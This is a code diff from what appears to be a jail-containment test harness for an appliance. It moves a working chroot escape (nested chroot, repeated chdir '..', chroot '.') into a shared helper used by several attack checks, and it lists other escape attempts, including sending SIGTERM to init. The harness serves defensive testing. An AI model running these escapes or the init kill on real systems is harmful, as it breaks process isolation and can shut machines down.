@@ -335,6 +335,16 @@ int copy_and_exec(const std::string& src, const std::string& dst, char* const* a
     return e;
 }
 
+// The classic escape: chroot into a subdirectory, walk up past the old root, chroot there.
+int chroot_walk_out(const std::string& dir, std::string& d) {
+    if (chroot(dir.c_str()) < 0) return fail_errno();
+    for (int i = 0; i < 64; ++i) (void)!chdir("..");
+    (void)!chroot(".");
+    bool out = access("/sbin/init", F_OK) == 0 && access("/etc/romimg/appliance.conf", F_OK) == 0;
+    d = out ? "reached the appliance's root" : "chroot worked but stayed inside the jail";
+    return out ? 0 : kContained;
+}
+
 // ---- the jail's devices: those it has work, no other opens ----
 
 bool has_device(const Service& s, const std::string& d) {
@@ -651,13 +661,7 @@ std::vector<Attack> jail_attacks(const Conf& conf, const Service& s, pid_t servi
                      return kContained;
                  }});
     v.push_back({"chroot-double", "escape with a second chroot (mkdir x; chroot x; cd ../..)", false, [=](std::string& d) {
-                     std::string x = writable.empty() ? "/etc" : writable;
-                     if (chroot(x.c_str()) < 0) return fail_errno();
-                     for (int i = 0; i < 64; ++i) (void)!chdir("..");
-                     (void)!chroot(".");
-                     bool out = access("/sbin/init", F_OK) == 0 && access("/etc/romimg/appliance.conf", F_OK) == 0;
-                     d = out ? "reached the appliance's root" : "chroot worked but stayed inside the jail";
-                     return out ? 0 : kContained;
+                     return chroot_walk_out(writable.empty() ? "/etc" : writable, d);
                  }});
     v.push_back({"chroot-fchdir", "escape with fchdir to a directory fd kept from outside a new chroot", false, [=](std::string& d) {
                      int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
@@ -926,13 +930,7 @@ std::vector<Attack> root_jail_attacks(const Conf& conf, const Service& s,
                      return unshare(CLONE_NEWNS) == 0 ? 0 : fail_errno();
                  }});
     v.push_back({"chroot-escape", "chroot(\".\") twice with cap_sys_chroot to walk out", true, [=](std::string& d) {
-                     std::string x = writable.empty() ? "/" : writable;
-                     if (chroot(x.c_str()) < 0) return fail_errno();
-                     for (int i = 0; i < 64; ++i) (void)!chdir("..");
-                     (void)!chroot(".");
-                     bool out = access("/sbin/init", F_OK) == 0 && access("/etc/romimg/appliance.conf", F_OK) == 0;
-                     d = out ? "reached the appliance's root" : "chroot worked but stayed inside the jail";
-                     return out ? 0 : kContained;
+                     return chroot_walk_out(writable.empty() ? "/" : writable, d);
                  }});
     v.push_back({"signal-init", "kill(1, 0) and kill(1, SIGTERM) (power the appliance off)", true, [](std::string& d) {
                      if (kill(1, 0) == 0) {
